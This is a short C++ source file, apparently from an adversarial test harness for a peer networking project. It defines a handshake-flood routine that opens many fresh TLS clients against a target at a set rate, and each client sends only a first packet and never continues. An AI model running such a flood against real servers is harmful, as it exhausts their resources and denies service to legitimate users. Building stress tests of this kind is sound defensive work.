// A flood of first packets: each from a new client that never continues.
#include <chrono>
#include <thread>

#include "hostile/attack.h"

namespace peer::hostile {

std::size_t flood_handshakes(const AttackOptions& options, Random& random) {
  const auto identity = net::Identity::generate();
  if (!identity) return 0;
  const net::TlsContext tls(*identity, false);
  const auto begin = std::chrono::steady_clock::now();
  const auto elapsed = [&] { return std::chrono::duration<double>(std::chrono::steady_clock::now() - begin).count(); };
  std::size_t sent = 0;
  while (elapsed() < options.seconds) {
    if (static_cast<double>(sent) > elapsed() * options.rate) {
      std::this_thread::sleep_for(std::chrono::milliseconds(2));
      continue;
    }
    ClientOptions client;
    client.target = options.target;
    RawClient(client, tls, random).turn();
    ++sent;
  }
  return sent;
}

}  // namespace peer::hostile
